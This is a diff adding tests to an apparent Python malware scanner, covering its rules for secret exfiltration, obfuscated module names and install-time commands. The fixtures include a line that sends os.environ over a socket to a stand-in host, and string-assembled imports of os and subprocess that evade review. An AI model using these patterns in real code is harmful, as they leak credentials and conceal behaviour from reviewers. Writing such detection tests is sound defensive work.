@@ -31,11 +31,18 @@ def test_every_sample_is_named(name, file, source):
         "import base64\ndata = base64.b64decode('aGk=')\nprint(data)\n",
         "exec(open('version.py').read())\n",
         "import re\nretrieval = re.compile('x')\n",
+        "import os, socket\ns = socket.socket()\ns.bind(('', 0))\nenv = os.environ.copy()\n",
     ],
 )
 def test_ordinary_code_is_left_alone(source):
     """Each uses a word that a rule looks for."""
     assert rules(source) == set()
+
+
+def test_a_socket_that_speaks_can_carry_the_environment_away():
+    """One that only looks for a free port cannot."""
+    source = "import os, socket\ns = socket.socket()\ns.connect(('a.invalid', 1))\ns.send(str(os.environ).encode())\n"
+    assert "sends-secrets" in rules(source)
 
 
 def test_what_runs_unasked_needs_less():
@@ -62,3 +69,32 @@ def test_source_that_cannot_be_parsed_is_no_crash(source):
     """Python 2, nonsense, nesting."""
     python_findings(source.encode(), "x.py")
     assert python_findings(source.encode(), "setup.py", eager=True)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
+        "import importlib\nimportlib.import_module('ssecorpbus'[::-1]).run('true')\n",
+        "__import__(''.join(['o', 's'])).getcwd()\n",
+    ],
+)
+def test_names_that_are_put_together_out_of_pieces(source):
+    """Nobody who means well writes os so."""
+    assert "hidden-name" in rules(source)
+
+
+def test_names_that_are_computed_for_a_reason():
+    """A plug-in by its configured name, a constant that is long."""
+    for source in (
+        "__import__('my' + '.plugin')\n",
+        "import importlib\nimportlib.import_module('.' + name, __name__)\n",
+        "getattr(torch, 'float' + bits)\n__import__('os')\n",
+    ):
+        assert rules(source) == set()
+
+
+def test_a_setup_script_that_starts_programs_is_for_review():
+    """Many ask git for a version; some do worse."""
+    (found,) = python_findings(b"import os\nos.system('true')\n", "setup.py", eager=True)
+    assert (found.rule, found.severity) == ("install-runs", 2)
